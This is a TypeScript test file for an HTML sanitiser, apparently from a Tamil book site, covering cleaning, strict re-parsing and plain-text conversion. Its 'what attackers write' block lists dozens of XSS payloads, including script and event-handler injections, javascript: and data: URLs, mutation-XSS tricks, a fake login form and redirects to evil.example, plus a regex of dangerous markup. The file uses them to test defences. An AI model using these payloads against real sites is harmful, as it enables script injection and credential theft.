import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { parseClean } from './parse-clean.ts'
import { plainTextOf, readPlainText } from './plain-text.ts'
import { writeHtml } from './write-html.ts'

const key = '0123456789abcdef0123456789abcdef'
const picture = `<img src="/storage/pictures/${key}.webp" alt="ஒரு பனை" />`

function clean(given: string): string {
  const nodes = cleanHtml(given)
  return typeof nodes === 'string' ? nodes : writeHtml(nodes)
}

/** What a browser could run, load or be led astray by. */
const dangers =
  /<(?:script|style|iframe|object|embed|svg|math|form|input|link|meta|base|template|video|audio)|\son\w+\s*=|javascript:|data:|vbscript:|srcdoc|style=|<!--|<!\[/i

describe('what attackers write', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img/src=`x`onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://good.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p onmouseover=alert(1)>x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<xmp><script>alert(1)</script></xmp>',
    '<plaintext><script>alert(1)</script>',
    '<!--><script>alert(1)</script>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<!DOCTYPE html><script>alert(1)</script>',
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
    '<video src=x onerror=alert(1)></video>',
    '<details open ontoggle=alert(1)>',
    '<body onload=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
    '<a href="https://evil.example" target="_blank" ping="https://evil.example" rel="opener">x</a>',
    '<p id="main" class="fixed inset-0" data-x="1" name="body">x</p>',
    '<img src="/storage/pictures/../../api/staff/blogs.webp" alt="x">',
    `<img src="https://evil.example/storage/pictures/${key}.webp" alt="x">`,
    `<img src="/storage/pictures/${key}.webp?track=1" alt="x">`,
    `<img src="/storage/pictures/${key}.webp" alt="x" srcset="https://evil.example/1.png 1x" onerror="alert(1)">`,
    '<'.repeat(5_000),
    '<blockquote>'.repeat(5_000),
  ])('%s', (attack) => {
    const kept = clean(`<p>before</p>${attack}<p>after</p>`)
    const elements = kept.replace(/>[^<>]*</g, '><')
    expect(elements).not.toMatch(dangers)
    expect(kept).not.toMatch(/<script/i)
  })
})

test('whatever is given, what is kept is of the closed set and stays as it is when it is given again', () => {
  const piece = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<script>',
      '</script>',
      '<a href="',
      '">',
      '<img ',
      'onerror=',
      '<li>',
      '<ul>',
      '</ul>',
    ),
    fc.constantFrom(
      '<blockquote>',
      '<h2>',
      '</h2>',
      '<!--',
      '-->',
      '&lt;',
      '&#x3c;',
      '&amp;lt;',
      "'",
      '"',
      '`',
      '<br>',
      '<svg>',
    ),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      const nodes = cleanHtml(pieces.join(''))
      if (typeof nodes === 'string') return
      const kept = writeHtml(nodes)
      expect(parseClean(kept)).not.toBeNull()
      expect(clean(kept)).toBe(kept)
      expect(kept.replace(/>[^<>]*</g, '><')).not.toMatch(dangers)
    }),
    { numRuns: 2_000 },
  )
})

describe('what is meant', () => {
  it.each([
    ['<p>ஒரு <strong>நூல்</strong>, <em>one</em> <u>book</u></p>', null],
    ['<h2>Title</h2><p>a<br />b</p><hr /><blockquote><p>said</p></blockquote>', null],
    ['<ul><li><p>one</p></li><li><p>two</p><ol><li><p>inner</p></li></ol></li></ul>', null],
    [
      '<p><a href="https://panai.example/a?b=1&amp;c=2">link</a> <a href="/help#question-isbn">ours</a></p>',
      null,
    ],
    [`<p>before</p>${picture}<p>after</p>`, null],
    ['<b>bold</b> and bare', '<p><strong>bold</strong> and bare</p>'],
    ['<h1>Head</h1><div>text</div>', '<h2>Head</h2><p>text</p>'],
    [`<p>words ${picture} more</p>`, `<p>words </p>${picture}<p> more</p>`],
    ['<p> </p><p></p><p>x</p><ul></ul>', '<p>x</p>'],
    ['<li>alone</li>', '<p>alone</p>'],
    ['<p><strong>a<p>b</p></strong></p>', '<p>a</p><p>b</p>'],
    ['<p>nothing\u0000 &#1;is hidden</p>', '<p>nothing is hidden</p>'],
    ['<p>1 < 2 & 3 > 2</p>', '<p>1 &lt; 2 &amp; 3 &gt; 2</p>'],
  ])('%s', (given, kept) => {
    expect(clean(given)).toBe(kept ?? given)
  })

  it('refuses pictures of elsewhere and pictures without words, rather than losing them in silence', () => {
    expect(clean('<p>x</p><img src="https://other.example/x.png" alt="x">')).toBe('foreign picture')
    expect(clean('<img src="data:image/png;base64,AAAA" alt="x">')).toBe('foreign picture')
    expect(clean(picture.replace('ஒரு பனை', ' '))).toBe('picture without words')
  })
})

describe('the second look', () => {
  it.each([
    '<p>x',
    '<p>x</div>',
    '</p>',
    '<script>x</script>',
    '<p class="x">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a>x</a>',
    '<img src="x" alt="x" />',
    `<img src="/storage/pictures/${key}.webp" alt="x" onerror="x" />`,
    `<img src="/storage/pictures/${key}.webp" src="/storage/pictures/${key}.webp" alt="x" />`,
    '<p>&copy;</p>',
    '<p>a & b</p>',
    '<p><!-- x --></p>',
    '<P>x</P>',
    '<br>',
    '<p>x</p',
  ])('does not accept %s', (html) => {
    expect(parseClean(html)).toBeNull()
  })
})

describe('the words without their form', () => {
  const plain = (html: string) => plainTextOf(parseClean(html) ?? [])

  it('stand in paragraphs and lines', () => {
    expect(
      plain('<h2>Head</h2><p>a <strong>b</strong><br />c</p><ul><li><p>one</p></li><li><p>two</p></li></ul>'),
    ).toBe('Head\n\na b\nc\n\none\ntwo')
    expect(plain(`<p>x &amp; y</p>${picture}`)).toBe('x & y')
  })

  const kinds = (content: string) =>
    readPlainText(content).map((node) =>
      node.kind === 'element' && node.name === 'h2' ? 'heading' : 'paragraph',
    )

  it('get a form again: headings, paragraphs and their line breaks', () => {
    expect(writeHtml(readPlainText('It begins.\n\nConsent, twice\n\nFirst <line>.\nSecond line.'))).toBe(
      '<p>It begins.</p><h2>Consent, twice</h2><p>First &lt;line&gt;.<br />Second line.</p>',
    )
    expect(readPlainText(' \n\n ')).toEqual([])
  })

  it('know Tamil headings, which can end in a vowel sign', () => {
    expect(kinds('விலை எப்படி உருவாகிறது\n\nஒரு நூலின் விலை.')).toEqual(['heading', 'paragraph'])
    expect(kinds('With love\r\n\r\nThe editors')).toEqual(['heading', 'paragraph'])
  })

  it.each([
    'Ends with a stop.\n\nMore.',
    'Ends with a colon:\n\nMore.',
    '1. A step of a list\n\nMore.',
    `${'A line too long to be a heading '.repeat(4)}\n\nMore.`,
  ])('take a paragraph for one: %j', (content) => {
    expect(kinds(content)).toEqual(['paragraph', 'paragraph'])
  })
})
